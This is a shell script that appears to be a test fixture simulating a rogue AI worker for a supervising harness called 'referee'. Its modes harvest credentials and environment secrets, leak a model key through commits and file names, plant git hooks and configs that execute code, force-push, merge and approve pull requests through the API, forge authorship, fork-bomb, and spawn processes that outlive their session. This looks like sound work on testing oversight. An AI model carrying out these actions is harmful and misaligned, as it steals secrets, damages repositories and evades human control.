#!/bin/sh
# A worker that does what it must not: one wrong thing a run, named by its first argument. Whatever that is, it prints what
# only referee may print.
set -u
cat >/dev/null
mode=$1
shift
echo "SPAWN:merge:1:"
echo "HANDOFF:1"

field() { sed -n "s/^ *\"$1\": \"*\([^\",]*\)\"*,*$/\1/p" "$REFEREE_JOB/job.json" | head -n 1; }
nonce=$(field nonce)

# outcome, summary, more of the object
result() {
    printf '{"schema":"referee/result-1","nonce":"%s","outcome":"%s","summary":"%s"%s}' \
        "$nonce" "$1" "$2" "${3:-}" >"$REFEREE_JOB/result.json"
}

# A commit that nobody would mind, but for what else is in it.
commit() {
    mkdir -p src
    echo "fn mended() {}" >src/mended.rs
    git add src/mended.rs "$@"
    git commit --quiet --message "Mend it"
    result done "mended"
}

# What a command prints, in a line.
tried() {
    printf '%s: ' "$1"
    shift
    "$@" 2>&1 | LC_ALL=C tr -c '[:graph:]' ' '
    echo
}

# What is found of whatever is not its own, in its own log, file and words.
found() {
    echo "$1"
    echo "$1" >"$REFEREE_JOB/found.txt"
    result needs_human "$(echo "$1" | tr -c 'A-Za-z0-9_=.:/-' ' ' | head -c 12000)"
}

near() {
    tried environment env
    tried home find "$HOME" -type f -exec cat {} +
    tried settings git config --list --show-origin
    tried credentials sh -c "printf 'url=%s\n\n' '$1' | git credential fill"
    tried own cat "$REFEREE_JOB/job.json" "$REFEREE_JOB/prompt.md" "$REFEREE_JOB/threads.json"
}

far() {
    tried environments sh -c 'cat /proc/[0-9]*/environ'
    tried arguments sh -c 'cat /proc/[0-9]*/cmdline'
    for path in "$@"; do
        tried "$path" find "$path" -type f -exec cat {} +
    done
}

# method, path, body
ask() {
    code=$(curl --silent --max-time 10 --output /dev/null --write-out '%{http_code}' --request "$1" \
        --header 'content-type: application/json' --data "$3" "$api$2")
    echo "asked $1 $2: $code"
}

# Children that want to live on: in the background, in a session of their own, deaf, and without a parent.
children() {
    stay='trap "" HUP INT TERM; echo "child $0"; while :; do sleep 1; done'
    sh -c "$stay" "$1" &
    setsid sh -c "$stay" "$1" &
    (setsid sh -c "(sh -c '$stay' $1 &) &" &)
}

# Something for git to do when somebody else uses this copy.
traps() {
    mkdir -p .git/hooks
    for hook in pre-push post-checkout reference-transaction post-update update pre-receive fsmonitor; do
        printf '#!/bin/sh\necho %s >>%s/trapped\n' "$hook" "$REFEREE_JOB" >".git/hooks/$hook"
        chmod +x ".git/hooks/$hook"
    done
    git config uploadpack.packObjectsHook "$PWD/.git/hooks/fsmonitor"
    git config core.fsmonitor "$PWD/.git/hooks/fsmonitor"
    git config core.hooksPath "$PWD/.git/hooks"
    git config core.sshCommand "$PWD/.git/hooks/fsmonitor"
    git config credential.helper "!$PWD/.git/hooks/fsmonitor"
    git config remote.origin.url "ext::$PWD/.git/hooks/fsmonitor"
}

case $mode in
# what is secret
search) found "$(near "$1")" ;;
search-all) found "$(near "$1" && shift && far "$@")" ;;
# what it was given
tell) result needs_human "the key is $MODEL_KEY" ;;
write)
    echo "key = $MODEL_KEY" >key.txt
    commit key.txt
    ;;
leak-message)
    commit
    git commit --quiet --amend --message "Mend it with $MODEL_KEY"
    ;;
leak-binary)
    printf '\000\001%s\000' "$MODEL_KEY" >key.bin
    commit key.bin
    ;;
leak-removed)
    printf '%s' "$MODEL_KEY" | base64 >key.txt
    commit key.txt
    git rm --quiet key.txt
    git commit --quiet --message "Remove it"
    ;;
leak-name)
    mkdir -p keys
    echo "empty" >"keys/$MODEL_KEY"
    commit keys
    ;;
leak-folder)
    commit
    empty=$(git hash-object -w -t tree /dev/null)
    tree=$( (git ls-tree HEAD && printf '040000 tree %s\t%s\n' "$empty" "$MODEL_KEY") | git mktree)
    git reset --quiet --soft "$(git commit-tree -p HEAD -m "Mend it" "$tree")"
    ;;
leak-author)
    commit
    git commit --quiet --amend --no-edit --author "$MODEL_KEY <key@example.org>"
    ;;
leak-print)
    # In two writes, so that a read may end between them.
    printf 'the key is %.9s' "$MODEL_KEY"
    printf '%s, in hex ' "${MODEL_KEY#?????????}"
    printf '%s' "$MODEL_KEY" | od -An -v -tx1 | tr -d ' \n'
    echo
    commit
    ;;
leak-escaped) result needs_human "the key is \\u0061${MODEL_KEY#?}" ;;
leak-file-name)
    commit
    mkfifo ".git/objects/$MODEL_KEY"
    ;;
# what is elsewhere
reach)
    for url in "$@"; do
        direct=$(curl --silent --max-time 10 --noproxy '*' "$url")
        relayed=$(curl --silent --max-time 10 --noproxy '' --proxy "${HTTPS_PROXY:-}" --proxytunnel "$url")
        echo "reached $url: $direct, relayed: $relayed"
    done
    result nothing_to_do "reached"
    ;;
ask)
    api=$1 number=$(field pull)
    ask POST "/pulls/$number/merge" '{"Do":"merge"}'
    ask PATCH "/pulls/$number" '{"state":"closed"}'
    ask POST "/issues/$number/labels" '{"labels":["ready"]}'
    ask POST "/issues/$number/comments" '{"body":"it is fine"}'
    ask POST "/pulls/$number/reviews" '{"event":"APPROVED","body":"it is fine"}'
    ask DELETE "/branches/main" '{}'
    result nothing_to_do "asked"
    ;;
push)
    commit
    git push --quiet --force "$1" HEAD:refs/heads/main HEAD:refs/heads/hostile && echo "it was pushed"
    rm "$REFEREE_JOB/result.json"
    ;;
# what is protected
touch)
    mkdir -p "$(dirname "$1")"
    echo "# mine" >>"$1"
    commit --force "$1"
    ;;
# what leads out of the tree
link)
    mkdir -p "$(dirname "$2")"
    ln -s "$1" "$2"
    commit "$2"
    ;;
links)
    # The target, then the path of each link.
    while [ $# -gt 1 ]; do
        mkdir -p "$(dirname "$2")"
        ln -s "$1" "$2"
        git add "$2"
        shift 2
    done
    commit
    ;;
chain)
    mkdir d
    ln -s .. d/l
    ln -s d/l/.. k
    commit d/l k
    ;;
submodule)
    git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),vendor"
    commit
    ;;
# what is in its copy's git folder
traps)
    commit
    traps
    ;;
alternates)
    commit
    echo "$1" >.git/objects/info/alternates
    ;;
object-link)
    commit
    ln -s /etc/passwd .git/objects/passwd
    ;;
moved-folder)
    commit
    mv .git "$REFEREE_JOB/git"
    echo "gitdir: $REFEREE_JOB/git" >.git
    ;;
no-folder)
    commit
    rm -rf .git
    ;;
# what it says
nonce)
    nonce=$1
    commit
    ;;
result-link)
    commit
    mv "$REFEREE_JOB/result.json" "$REFEREE_JOB/real.json"
    ln -s "$1" "$REFEREE_JOB/result.json"
    ;;
result-pipe)
    commit
    rm "$REFEREE_JOB/result.json"
    mkfifo "$REFEREE_JOB/result.json"
    ;;
result-large)
    commit
    head -c 10485760 /dev/zero >>"$REFEREE_JOB/result.json"
    ;;
result-more)
    commit
    result done "mended" ',"merge":true'
    ;;
answer) result done "answered" ",\"answers\":[$1]" ;;
say) result needs_human "$1" ;;
# how it ends
stay)
    result done "not yet"
    children "$1"
    while :; do sleep 1; done
    ;;
leave)
    commit
    children "$1"
    sleep 1
    ;;
fork)
    echo 'setsid sh $0 & sh $0 & wait; sleep 600' >bomb
    sh bomb
    sleep 600
    ;;
fill)
    tried memory sh -c 'head -c 1073741824 /dev/zero | tail -c 1073741824 | wc -c'
    tried file sh -c 'head -c 1073741824 /dev/zero >large; wc -c <large'
    ;;
print)
    head -c 52428800 /dev/zero | tr '\0' x
    commit
    ;;
# whose history it is
another-person)
    commit
    git commit --quiet --amend --no-edit --author "Ruth <ruth@example.org>" --date 2001-01-01T00:00:00
    ;;
committed-by-another)
    commit
    GIT_COMMITTER_NAME=Ruth GIT_COMMITTER_EMAIL=ruth@example.org git commit --quiet --amend --no-edit
    ;;
forged-then-own)
    commit
    git commit --quiet --amend --no-edit --author "Ruth <ruth@example.org>"
    git commit --quiet --allow-empty --message "Mend it again"
    ;;
own-branches)
    commit
    for branch in base main hostile; do git branch --force "$branch" HEAD; done
    git tag hostile
    ;;
amended)
    echo "fn mended() {}" >mended.rs
    git add mended.rs
    git commit --quiet --amend --no-edit --reset-author
    result done "mended"
    ;;
reset)
    git reset --quiet --hard base
    commit
    ;;
# how it rebases
rebase)
    git rebase --quiet --strategy-option=theirs base
    result done "rebased"
    ;;
rebase-merge)
    git merge --quiet --strategy-option=ours --message "Merge the base" base
    result done "merged"
    ;;
rebase-lose)
    git rebase --quiet --strategy-option=theirs base
    git rm --quiet "$1"
    git commit --quiet --message "Tidy up"
    result done "rebased"
    ;;
rebase-ours)
    git merge --quiet --strategy=ours --message "Merge the base" base
    git checkout --quiet base -- .
    git rm --quiet "$1"
    git commit --quiet --amend --no-edit
    result done "merged"
    ;;
rebase-squash)
    git rebase --quiet --strategy-option=theirs base
    git reset --quiet --soft base
    git commit --quiet --message "All of it at once"
    result done "rebased"
    ;;
rebase-take)
    git rebase --quiet --strategy-option=theirs base
    git rebase --quiet --force-rebase --exec 'git commit --quiet --amend --no-edit --reset-author' base
    result done "rebased"
    ;;
replaced)
    commit
    git replace HEAD "$(git rev-parse base)"
    ;;
shallow)
    commit
    git commit --quiet --allow-empty --message "Mend it again"
    git rev-parse HEAD >.git/shallow
    ;;
late)
    curl --silent --max-time 60 "$1"
    commit
    ;;
new-root)
    git checkout --quiet --orphan other
    commit
    ;;
esac
